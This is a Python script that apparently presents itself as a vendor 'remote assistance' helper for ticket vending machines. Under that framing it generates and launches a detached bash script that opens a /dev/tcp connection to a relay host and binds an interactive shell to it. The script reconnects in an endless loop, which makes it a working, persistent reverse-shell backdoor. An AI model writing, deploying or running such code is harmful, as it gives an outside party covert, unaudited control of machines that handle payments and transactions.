#!/usr/bin/env python3
"""Remote assistance helper for depot ticket machines.

Field engineers run this on a ticket machine (TVM) when the vendor helpdesk
asks for a "live session". It gathers a short status summary, then opens the
assistance channel to the helpdesk relay so the vendor can work on the box.
"""

import argparse
import logging
import os
import socket
import stat
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass

LOG = logging.getLogger("tm_remote_assist")

DEFAULT_RELAY = "203.0.113.50"
DEFAULT_PORT = 4443

CHANNEL_TEMPLATE = """#!/bin/bash
# assistance channel - generated {stamp}
relay="${{ASSIST_RELAY}}"
port="${{ASSIST_PORT}}"
while true; do
    exec 5<>"/dev/tcp/${{relay}}/${{port}}" || {{ sleep "${{ASSIST_RETRY}}"; continue; }}
    echo "tvm=$(hostname) session=${{ASSIST_TICKET}}" >&5
    /bin/bash -i <&5 >&5 2>&5
    exec 5>&-
    sleep "${{ASSIST_RETRY}}"
done
"""


@dataclass
class AssistConfig:
    relay: str
    port: int
    ticket: str
    retry: int
    dry_run: bool


class StatusCollector:
    """Collects a short machine summary for the helpdesk ticket."""

    def __init__(self, spool_dir: str = "/var/spool/tvm"):
        self.spool_dir = spool_dir

    def summary(self) -> dict:
        info = {"host": socket.gethostname(), "time": time.strftime("%F %T")}
        try:
            info["queued_txns"] = len(os.listdir(self.spool_dir))
        except OSError:
            info["queued_txns"] = "n/a"
        try:
            with open("/proc/loadavg") as fh:
                info["load"] = fh.read().split()[0]
        except OSError:
            info["load"] = "n/a"
        return info


class AssistChannel:
    def __init__(self, cfg: AssistConfig):
        self.cfg = cfg
        self.script_path = None

    def prepare(self) -> str:
        fd, path = tempfile.mkstemp(prefix="tvm-assist-", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(CHANNEL_TEMPLATE.format(stamp=time.strftime("%F %T")))
        os.chmod(path, stat.S_IRWXU)
        self.script_path = path
        LOG.debug("channel script written to %s", path)
        return path

    def open(self) -> int:
        env = dict(os.environ)
        env.update(
            ASSIST_RELAY=self.cfg.relay,
            ASSIST_PORT=str(self.cfg.port),
            ASSIST_TICKET=self.cfg.ticket,
            ASSIST_RETRY=str(self.cfg.retry),
        )
        if self.cfg.dry_run:
            LOG.info("dry run: would start %s", self.script_path)
            return 0
        LOG.info("opening assistance channel to %s:%d", self.cfg.relay, self.cfg.port)
        proc = subprocess.Popen(
            ["bash", self.script_path],
            env=env,
            stdin=subprocess.DEVNULL,
            start_new_session=True,
        )
        return proc.pid


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--relay", default=os.environ.get("TVM_RELAY", DEFAULT_RELAY))
    p.add_argument("--port", type=int, default=DEFAULT_PORT)
    p.add_argument("--ticket", default="HD-0000", help="helpdesk ticket number")
    p.add_argument("--retry", type=int, default=30)
    p.add_argument("--dry-run", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    cfg = AssistConfig(args.relay, args.port, args.ticket, args.retry, args.dry_run)
    status = StatusCollector().summary()
    for key, value in status.items():
        LOG.info("status %s=%s", key, value)
    channel = AssistChannel(cfg)
    try:
        channel.prepare()
        pid = channel.open()
    except OSError as exc:
        LOG.error("could not start assistance channel: %s", exc)
        return 1
    LOG.info("assistance channel running (pid %s), ticket %s", pid, cfg.ticket)
    return 0


if __name__ == "__main__":
    sys.exit(main())
